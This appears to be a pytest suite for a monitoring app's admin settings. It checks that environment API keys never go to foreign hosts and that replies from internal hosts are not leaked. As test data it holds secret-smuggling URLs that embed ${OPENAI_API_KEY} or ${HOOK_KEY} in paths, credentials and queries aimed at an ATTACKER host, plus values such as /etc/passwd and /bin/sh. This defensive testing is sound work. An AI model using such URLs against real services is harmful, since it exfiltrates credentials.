"""A desk administrator and somebody else's server: no key of the box and no inner answer arrives there."""

import json
from collections.abc import AsyncIterator, Callable
from typing import Any
from urllib.parse import urlsplit

import pytest

from benchmarks.scripted_model.server import ScriptedModel
from monitor.config.model import Settings
from monitor.services.settings import KEY_VARIABLE

KEYS = {
    "OPENAI_API_KEY": "sk-of-the-box",
    "BRAVE_API_KEY": "brave-of-the-box",
    "SEARXNG_API_KEY": "searxng-of-the-box",
    "HOOK_KEY": "hook-of-the-box",
    "MONITOR_SECRET_KEY": "passphrase-of-the-box",
    "OPENAI_ORG_ID": "org-of-the-box",
    "OPENAI_CUSTOM_HEADERS": "X-Gateway-Key: gateway-of-the-box",
}
STORED = "sk-entered-on-the-desk"
INNER = "the inner answer"
REFUSAL = '{"error": {"message": "who are you", "code": "no_key"}}'


@pytest.fixture(autouse=True)
def keys_of_the_box(monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in KEYS.items():
        monkeypatch.setenv(name, value)
    assert KEY_VARIABLE in KEYS


@pytest.fixture
async def provider() -> AsyncIterator[str]:
    """The model that the file names; it answers to the key of the environment alone."""
    async with ScriptedModel(api_key=KEYS["OPENAI_API_KEY"]).serve() as url:
        yield url


@pytest.fixture
async def other_provider() -> AsyncIterator[str]:
    """One whose key is entered on the desk."""
    async with ScriptedModel(api_key=STORED).serve() as url:
        yield url


@pytest.fixture
async def attacker(open_site: Any) -> AsyncIterator[Any]:
    """Somebody's server on the public network, for which an exception of the guard stands here."""
    async with open_site() as site:
        yield site


@pytest.fixture
async def inner(open_site: Any) -> AsyncIterator[Any]:
    """A machine behind the wall, which speaks to everybody who reaches it."""
    async with open_site() as site:
        body = json.dumps({"error": {"message": INNER, "code": "inner_code"}, "items": INNER})
        for path in ("/v1/chat/completions", "/search", "/res/v1/web/search", "/hook"):
            site.on(path, body)
        yield site


@pytest.fixture
def desk_settings(provider: str, other_provider: str, attacker: Any) -> Callable[[Settings], Settings]:
    def change(settings: Settings) -> Settings:
        given = {
            "llm": {"base_url": provider, "max_retries": 0},
            "network": {"allowed_private_hosts": [attacker.host, urlsplit(other_provider).netloc]},
            "deliver": {
                "targets": [{"name": "ours", "url": "https://hook.example/${HOOK_KEY}", "secret_env": "HOOK_KEY"}]
            },
        }
        return Settings(data_dir=settings.data_dir, database_url=settings.database_url, **given)

    return change


def arrived_at(site: Any) -> str:
    return " ".join(f"{asked.path} {asked.headers} {asked.body!r}" for asked in site.asked)


def assert_no_key(text: str) -> None:
    assert not [name for name, value in {**KEYS, "stored": STORED}.items() if value.split(": ")[-1] in text]


async def patch(browser: Any, values: dict[str, Any]) -> None:
    answer = await browser.send("PATCH", "/api/v1/settings", json=values)
    assert answer.status_code == 200, answer.text


async def try_models(browser: Any) -> list[Any]:
    answer = await browser.send("POST", "/api/v1/settings/model/test")
    return [trial["complaint"] for trial in answer.json()["trials"]]


async def test_the_key_of_the_environment_does_not_follow_the_model_to_another_host(
    desk: Any, attacker: Any, reply: Any
) -> None:
    admin = await desk.sign_in("admin", language="en")
    assert await try_models(admin) == [None]
    attacker.on("/v1/chat/completions", reply(REFUSAL, 401, {"content-type": "application/json"}))
    await patch(admin, {"llm.base_url": attacker.url("/v1")})
    (complaint,) = await try_models(admin)
    sentence = "The key in OPENAI_API_KEY is for http://127.0.0.1:"
    assert complaint.startswith(sentence)
    assert complaint.endswith(f"Enter one for http://{attacker.host}.")
    for page in ("/settings", "/settings/model"):
        assert sentence in (await admin.get(page)).text
    assert sentence in (await admin.post("/settings/model/test")).text
    assert sum(asked.method == "POST" for asked in attacker.asked) == 2
    assert_no_key(arrived_at(attacker))
    await admin.post("/settings/forget", {"path": "llm.base_url", "page": "model"})
    assert await try_models(admin) == [None]


async def test_a_key_of_the_desk_goes_where_it_was_entered_for_and_is_asked_for_again_elsewhere(
    desk: Any, other_provider: str, attacker: Any
) -> None:
    admin = await desk.sign_in("admin", language="en")
    await patch(admin, {"llm.base_url": other_provider, "llm.api_key": STORED})
    assert await try_models(admin) == [None]
    await patch(admin, {"llm.base_url": attacker.url("/v1")})
    await try_models(admin)
    assert attacker.asked
    assert_no_key(arrived_at(attacker))
    assert f"Stored for: {other_provider.removesuffix('/v1')}." in (await admin.get("/settings/model")).text
    await patch(admin, {"llm.base_url": other_provider})
    assert await try_models(admin) == [None]
    await patch(admin, {"llm.base_url": attacker.url("/v1"), "llm.api_key": "of-the-attacker"})
    await try_models(admin)
    assert "Bearer of-the-attacker" in arrived_at(attacker)
    assert_no_key(arrived_at(attacker))


@pytest.mark.parametrize("backend", ["brave", "searxng"])
async def test_the_key_of_a_search_service_stays_with_its_host(desk: Any, attacker: Any, backend: str) -> None:
    admin = await desk.sign_in("admin", language="en")
    await patch(admin, {f"search.backends.{backend}.base_url": attacker.url(""), "search.backend": backend})
    answer = await admin.send("POST", "/api/v1/settings/search/test", json={"backend": backend, "query": "x"})
    page = (await admin.get("/settings/search")).text
    assert f"The key in {backend.upper()}_API_KEY is for" in page
    assert f"Enter one for http://{attacker.host}." in page
    assert answer.json()["items"] == []
    assert_no_key(arrived_at(attacker))


@pytest.mark.parametrize(
    "form",
    [
        {"url": "http://ATTACKER/${OPENAI_API_KEY}"},
        {"url": "http://ATTACKER/${HOOK_KEY}"},
        {"url": "http://${HOOK_KEY}@ATTACKER/"},
        {"url": "http://ATTACKER/?x=${MONITOR_SECRET_KEY}"},
        {"url": "https://hook.example@ATTACKER/${HOOK_KEY}"},
        {"url": "smtp://me:${HOOK_KEY}@ATTACKER", "sender": "a@b.example", "to": ["a@b.example"]},
        {"url": "workflows://ATTACKER/${HOOK_KEY}/signature"},
    ],
)
async def test_a_target_of_the_desk_gets_no_variable_that_the_file_does_not_give_it(
    desk: Any, attacker: Any, form: dict[str, Any]
) -> None:
    admin = await desk.sign_in("admin", language="en")
    form = form | {"url": form["url"].replace("ATTACKER", attacker.host)}
    tried = (await admin.send("POST", "/api/v1/targets/try", json=form)).json()
    assert tried["is_sent"] is False
    assert_no_key(json.dumps(tried))
    assert (await admin.send("PUT", "/api/v1/targets/mine", json=form)).status_code == 200
    sent = (await admin.send("POST", "/api/v1/targets/mine/test")).json()
    assert sent["status"] == "failed"
    assert attacker.asked == []
    assert_no_key(json.dumps(sent))
    assert (await admin.get("/settings/targets/mine/edit")).status_code == 200


async def test_a_target_of_the_file_that_is_moved_on_the_desk_leaves_its_keys_behind(desk: Any, attacker: Any) -> None:
    admin = await desk.sign_in("admin", language="en")
    for url in (attacker.url("/${HOOK_KEY}"), attacker.url("/hook")):
        assert (await admin.send("PUT", "/api/v1/targets/ours", json={"url": url})).status_code == 200
        sent = (await admin.send("POST", "/api/v1/targets/ours/test")).json()
        assert sent["status"] == "failed"
        assert "HOOK_KEY is for hook.example" in json.dumps(sent)
    assert attacker.asked == []
    assert "HOOK_KEY is for hook.example" in (await admin.get("/settings/targets/ours/edit")).text
    await admin.send("PUT", "/api/v1/targets/ours", json={"url": attacker.url("/hook"), "secret": STORED})
    assert (await admin.send("POST", "/api/v1/targets/ours/test")).json()["status"] == "failed"  # it answers 404
    assert "x-monitor-signature" in arrived_at(attacker)
    assert_no_key(arrived_at(attacker))


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("network.allowed_private_hosts", ["127.0.0.1"]),
        ("network.proxy", "http://127.0.0.1:9"),
        ("network.proxy_suffixes", ["example"]),
        ("network.ca_bundle", "/etc/ssl/certs/ca-certificates.crt"),
        ("network.allow_legacy_tls", True),
        ("pages.browser.endpoint", "ws://127.0.0.1:9222"),
        ("pages.browser.path", "/bin/sh"),
        ("briefing.template", "/etc/passwd"),
        ("storage_url", "file:///tmp"),
        ("web.host", "0.0.0.0"),
        ("deliver.variables", ["OPENAI_API_KEY@elsewhere.example"]),
        ("llm.api_key_env", "MONITOR_SECRET_KEY"),
        ("search.backends.brave.api_key_env", "OPENAI_API_KEY"),
    ],
)
async def test_what_opens_the_wall_is_not_set_on_the_desk(desk: Any, path: str, value: Any) -> None:
    admin = await desk.sign_in("admin", language="en")
    answer = await admin.send("PATCH", "/api/v1/settings", json={path: value})
    assert answer.status_code == 400
    assert "config.yaml" in answer.json()["detail"]
    typed = ", ".join(value) if isinstance(value, list) else str(value)
    await admin.post("/settings/network", {path: typed})
    assert await desk.app.store.settings.list_all() == []


async def test_the_desk_shows_what_the_file_sets_and_offers_no_control_for_it(desk: Any, attacker: Any) -> None:
    admin = await desk.sign_in("admin", language="en")
    page = (await admin.get("/settings/network")).text
    control = page[page.index('id="f-network-allowed_private_hosts"') :].partition(">")[0]
    assert attacker.host in control
    assert "disabled" in control
    assert "Only the configuration file or the environment sets it." in page


async def test_no_inner_answer_is_shown_and_nothing_inside_is_asked(desk: Any, inner: Any) -> None:
    admin = await desk.sign_in("admin", language="en")
    answers = []
    await patch(admin, {"llm.base_url": inner.url("/v1"), "llm.api_key": STORED})
    answers.append(await admin.send("POST", "/api/v1/settings/model/test"))
    answers.append(await admin.post("/settings/model/test"))
    for backend in ("searxng", "brave"):
        await patch(admin, {f"search.backends.{backend}.base_url": inner.url("")})
        await patch(admin, {f"search.backends.{backend}.api_key": STORED})
        answers.append(
            await admin.send("POST", "/api/v1/settings/search/test", json={"backend": backend, "query": "x"})
        )
    await admin.send("PUT", "/api/v1/targets/mine", json={"url": inner.url("/hook")})
    answers.append(await admin.send("POST", "/api/v1/targets/mine/test"))
    assert inner.asked == []
    assert not [answer.text for answer in answers if INNER in answer.text]


async def test_of_a_host_that_the_file_allows_the_status_and_code_are_shown_and_no_word_of_its_answer(
    desk: Any, attacker: Any, reply: Any
) -> None:
    """Pages may be read there; the tests of services tell nobody what stands on them."""
    admin = await desk.sign_in("admin", language="en")
    body = json.dumps({"error": {"message": INNER, "code": "inner_code"}})
    for path in ("/v1/chat/completions", "/search", "/res/v1/web/search", "/hook"):
        attacker.on(path, reply(body, 500, {"content-type": "application/json"}))
    await patch(admin, {"llm.base_url": attacker.url("/v1"), "search.backends.searxng.base_url": attacker.url("")})
    await admin.send("PUT", "/api/v1/targets/mine", json={"url": attacker.url("/hook")})
    answers = [
        await admin.send("POST", "/api/v1/settings/model/test"),
        await admin.post("/settings/model/test"),
        await admin.send("POST", "/api/v1/settings/search/test", json={"backend": "searxng", "query": "x"}),
        await admin.send("POST", "/api/v1/targets/mine/test"),
    ]
    assert len(attacker.asked) >= len(answers)
    assert not [answer.text for answer in answers if INNER in answer.text]
    assert "500" in answers[0].text
    assert "inner_code" in answers[0].text


async def test_a_change_is_in_the_audit_with_fingerprints(desk: Any) -> None:
    admin = await desk.sign_in("admin", language="en")
    await patch(admin, {"llm.api_key": STORED})
    await admin.send("PUT", "/api/v1/targets/mine", json={"url": f"https://hook.example/{STORED}", "secret": STORED})
    entries = (await admin.get("/api/v1/audit")).text
    page = (await admin.get("/audit")).text
    assert entries.count("fingerprint") >= 3
    assert "fingerprint" in page
    assert_no_key(entries + page)
